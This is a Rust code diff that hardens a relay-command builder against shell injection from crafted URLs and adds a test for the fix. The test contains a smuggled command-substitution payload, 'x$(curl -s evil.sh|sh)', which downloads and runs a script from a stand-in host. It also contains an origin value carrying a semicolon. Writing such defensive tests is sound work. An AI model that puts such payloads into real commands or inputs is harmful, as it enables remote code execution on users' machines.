@@ -103,18 +103,32 @@ pub fn effective_url(url: &str, relay_on: bool, relay: &str) -> String {
     }
 }
 
-/// The relay command that forwards to this URL's host.
+/// Whether a URL authority is plain enough to paste into a shell command (host, port, brackets).
+fn plain_authority(a: &str) -> bool {
+    !a.is_empty()
+        && a.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'))
+}
+
+/// The relay command that forwards to this URL's host. Anything that is not a plain host:port
+/// becomes a placeholder, so a crafted base URL (a share link can carry one) cannot put shell
+/// syntax into a command the user copies.
 pub fn relay_command(url: &str, origin: &str) -> String {
     let mut cmd = "qwen-route relay".to_string();
     if let Some((scheme, authority, _)) = split_url(url) {
         let host = authority.rsplit_once(':').map_or(authority, |(h, _)| h);
         let known = catalog::surfaces().iter().any(|s| s.base_url.contains(&format!("://{host}/")));
         if !known {
-            cmd.push_str(&format!(" --allow-host {scheme}://{authority}"));
+            if matches!(scheme, "http" | "https") && plain_authority(authority) {
+                cmd.push_str(&format!(" --allow-host {scheme}://{authority}"));
+            } else {
+                cmd.push_str(" --allow-host <host:port>");
+            }
         }
     }
-    if !origin.is_empty() && origin != "http://127.0.0.1:8090" && origin != "http://localhost:8090"
-    {
+    let plain_origin = origin
+        .split_once("://")
+        .is_some_and(|(s, a)| matches!(s, "http" | "https") && plain_authority(a));
+    if plain_origin && origin != "http://127.0.0.1:8090" && origin != "http://localhost:8090" {
         cmd.push_str(&format!(" --allow-origin {origin}"));
     }
     cmd
@@ -219,6 +233,17 @@ mod tests {
             relay_command("http://127.0.0.1:8788/dashscope-intl/compatible-mode/v1/chat/completions", "http://localhost:5000"),
             "qwen-route relay --allow-host http://127.0.0.1:8788 --allow-origin http://localhost:5000"
         );
+    }
+
+    #[test]
+    fn relay_commands_never_carry_shell_syntax() {
+        let c = relay_command(
+            "https://x$(curl -s evil.sh|sh)/v1/chat/completions",
+            "http://127.0.0.1:8090",
+        );
+        assert_eq!(c, "qwen-route relay --allow-host <host:port>");
+        let c = relay_command("http://[::1]:8000/v1", "http://a;b");
+        assert_eq!(c, "qwen-route relay --allow-host http://[::1]:8000");
     }
 
     #[test]
